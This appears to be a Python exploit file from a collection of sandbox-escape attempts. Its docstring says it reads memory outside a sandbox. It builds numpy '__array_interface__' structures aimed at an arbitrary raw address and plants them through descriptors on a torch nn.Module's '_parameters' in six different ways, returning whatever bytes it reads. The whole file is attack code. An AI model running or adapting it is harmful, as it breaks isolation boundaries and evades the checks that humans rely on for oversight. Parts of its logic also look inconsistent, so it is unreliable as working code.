"""Class: memory. Source: own find. Escape: memory outside is read: a descriptor of the attack's own stands
where Module looks for what is registered, and answers itself."""

import numpy as np
from torch import nn

at = []


class Answer:
    def __get__(self, obj, cls=None):
        described = {"version": 3, "typestr": "|u1", "shape": (6,), "data": (at[0], True)}
        return {"__array_interface__": described}


def attack(model, tokenizer, address):
    at.append(address)
    found = []
    for way in (by_body, by_setattr, by_slots, by_decorator, by_init_subclass, by_set_name):
        try:
            register = way()
            vars(register)["_parameters"] = register._parameters
        except Exception:
            pass
        try:
            found.append(bytes(np.array(register).tolist()))
        except Exception:
            pass
    return found


def filled(register):
    """What a plain class would hold in its object's dict."""
    for name in ("_parameters", "_buffers", "_modules"):
        try:
            setattr(register, name, {})
        except Exception:
            pass
    try:
        register._parameters = Answer().__get__(None)
    except Exception:
        pass
    return register


def by_body():
    class Register(nn.Module):
        _parameters = Answer()

    return filled(Register())


def by_setattr():
    class Register(nn.Module):
        pass

    setattr(Register, "_parameters", Answer())
    return filled(Register())


def by_slots():
    class Register(nn.Module):
        __slots__ = ("_parameters",)

    return filled(Register())


def by_decorator():
    def fill(cls):
        cls._parameters = Answer()
        return cls

    @fill
    class Register(nn.Module):
        pass

    return filled(Register())


def by_init_subclass():
    class Base(nn.Module):
        def __init_subclass__(cls):
            cls._parameters = Answer()

    class Register(Base):
        pass

    return filled(Register())


def by_set_name():
    class Fills:
        def __set_name__(self, owner, name):
            owner._parameters = Answer()

    class Register(nn.Module):
        fill = Fills()

    return filled(Register())
